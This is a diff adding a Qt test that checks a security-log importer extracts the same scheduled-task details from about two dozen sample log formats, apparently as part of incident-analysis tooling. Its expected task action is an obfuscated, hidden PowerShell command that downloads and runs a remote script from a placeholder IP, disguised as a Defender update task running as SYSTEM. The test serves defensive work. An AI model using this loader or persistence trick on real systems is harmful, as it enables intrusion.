@@ -1,0 +1,143 @@
+#include "ingest/Importer.h"
+#include "store/Statement.h"
+#include "store/Workspace.h"
+
+#include <QDirIterator>
+#include <QTemporaryDir>
+#include <QTest>
+
+using namespace tb;
+
+// The scenario's malicious task (FORMATS.md §13: `\WindowsDefenderUpdate` on WKS-FIN-023, created at
+// 09:41 by schtasks from a Temp-folder parent) as every sample format sees it. However a source
+// reports the task, it must come out with the same task_name and task_action; task_run_as is the
+// same wherever the source reports the same thing.
+class TestCrossFormat : public QObject {
+    Q_OBJECT
+    QTemporaryDir m_dir;
+    Workspace m_workspace;
+
+    struct Seen {
+        QString format, eventCode, name, action, runAs;
+    };
+
+    // The creation of the scenario task in every format, one row per event.
+    QList<Seen> creations(const QString &extraCondition) {
+        Statement q = m_workspace.database().prepare(
+            QStringLiteral(
+                "SELECT format, ifnull(event_code, ''), task_name, ifnull(task_action, ''), "
+                "ifnull(task_run_as, '') FROM events WHERE host = 'wks-fin-023' AND task_name LIKE "
+                "'%WindowsDefenderUpdate' AND task_operation = 'created' AND ") +
+            extraCondition + QStringLiteral(" ORDER BY format, record_no"));
+        QList<Seen> rows;
+        while (q.step())
+            rows.append(
+                {q.columnText(0), q.columnText(1), q.columnText(2), q.columnText(3), q.columnText(4)});
+        return rows;
+    }
+
+    static QStringList formatsOf(const QList<Seen> &rows) {
+        QStringList formats;
+        for (const Seen &s : rows) {
+            if (!formats.contains(s.format))
+                formats << s.format;
+        }
+        return formats;
+    }
+
+    // The reference: the Security 4698 event itself, as wevtutil renders it.
+    Seen reference() {
+        const QList<Seen> rows =
+            creations(QStringLiteral("format = 'windows.event.xml' AND event_code = '4698'"));
+        return rows.value(0);
+    }
+
+private slots:
+    void initTestCase() {
+        QVERIFY(m_workspace.open(m_dir.filePath(QStringLiteral("w.tunebench"))));
+        Importer importer(m_workspace.database());
+        QDirIterator files(QStringLiteral(TEST_DATA_DIR "/formats"), QDir::Files,
+                           QDirIterator::Subdirectories);
+        int imported = 0;
+        while (files.hasNext()) {
+            const QString file = files.next();
+            const ImportSummary summary = importer.importFile(file, {});
+            QVERIFY2(summary.ok(), qPrintable(file + QStringLiteral(": ") + summary.error));
+            ++imported;
+        }
+        QCOMPARE(imported, 25);
+        QCOMPARE(
+            reference().action,
+            QStringLiteral("powershell.exe -nop -w hidden -enc "
+                           "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0A"
+                           "CkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALg"
+                           "AwAC4AMQAxADMALgA1ADAALwBhAC4AcABzADEAJwApAA=="));
+    }
+
+    // The registration event (Security 4698, Defender's ScheduledTaskCreated) carries the task's
+    // own definition: name, action and principal agree exactly, whoever shipped the event.
+    void registrationAgreesEverywhere() {
+        const Seen ref = reference();
+        QCOMPARE(ref.name, QStringLiteral("\\WindowsDefenderUpdate"));
+        QCOMPARE(ref.runAs, QStringLiteral("S-1-5-18"));
+        const QList<Seen> rows = creations(QStringLiteral("event_code IN ('4698', 'ScheduledTaskCreated')"));
+        const QStringList formats = formatsOf(rows);
+        for (const char *format : {"splunk.export.json", "elastic.alerts.json", "windows.event.xml",
+                                   "mde.advancedhunting.json", "hayabusa.csv", "hayabusa.jsonl"})
+            QVERIFY2(formats.contains(QLatin1String(format)), format);
+        for (const Seen &s : rows) {
+            const QByteArray where = (s.format + QLatin1Char(' ') + s.eventCode).toUtf8();
+            QVERIFY2(s.name == ref.name, where.constData());
+            QVERIFY2(s.action == ref.action, where.constData());
+            QVERIFY2(s.runAs == ref.runAs, where.constData());
+        }
+    }
+
+    // Process creation of `schtasks /create … /tr … /ru SYSTEM` (Sysmon 1, 4688, EDR process events,
+    // and the alerts built on them): the command line gives the same name and action, and the
+    // account as the command line spells it.
+    void commandLineViewsAgree() {
+        const Seen ref = reference();
+        const QList<Seen> rows = creations(QStringLiteral("command_line LIKE '%schtasks%'"));
+        const QStringList formats = formatsOf(rows);
+        for (const char *format :
+             {"splunk.escu.csv", "splunk.results.xml", "elastic.alerts.json", "elastic.discover.csv",
+              "windows.event.xml", "defender.advancedhunting.csv", "mde.alerts.json",
+              "sentinel.securityalert.csv", "chainsaw.json", "chainsaw.jsonl", "chainsaw.csv",
+              "zircolite.json", "zircolite.csv", "hayabusa.csv"})
+            QVERIFY2(formats.contains(QLatin1String(format)), format);
+        for (const Seen &s : rows) {
+            const QByteArray where = (s.format + QLatin1Char(' ') + s.eventCode).toUtf8();
+            QVERIFY2(s.name == ref.name, where.constData());
+            QVERIFY2(s.action == ref.action, where.constData());
+            QVERIFY2(s.runAs == QLatin1String("SYSTEM"), where.constData());
+        }
+    }
+
+    // The views that only name the task (TaskScheduler 106, Chainsaw's persistence rule).
+    void nameOnlyViewsAgree() {
+        const Seen ref = reference();
+        const QList<Seen> rows = creations(QStringLiteral("event_code = '106'"));
+        const QStringList formats = formatsOf(rows);
+        for (const char *format : {"evtx.libevtx_export", "chainsaw.json", "chainsaw.csv", "hayabusa.csv"})
+            QVERIFY2(formats.contains(QLatin1String(format)), format);
+        for (const Seen &s : rows)
+            QVERIFY2(s.name == ref.name, s.format.toUtf8().constData());
+    }
+
+    // /ru SYSTEM and the principal S-1-5-18 are the same account written two ways: the command
+    // line says what the operator typed, the definition what Task Scheduler stored. Both appear
+    // for the same task, and nothing else does.
+    void runAsSpellingsAreTheSystemAccount() {
+        Statement q = m_workspace.database().prepare(QStringLiteral(
+            "SELECT DISTINCT task_run_as FROM events WHERE task_name = '\\WindowsDefenderUpdate' AND "
+            "task_run_as IS NOT NULL ORDER BY 1"));
+        QStringList spellings;
+        while (q.step())
+            spellings << q.columnText(0);
+        QCOMPARE(spellings, QStringList({"S-1-5-18", "SYSTEM"}));
+    }
+};
+
+QTEST_GUILESS_MAIN(TestCrossFormat)
+#include "tst_crossformat.moc"
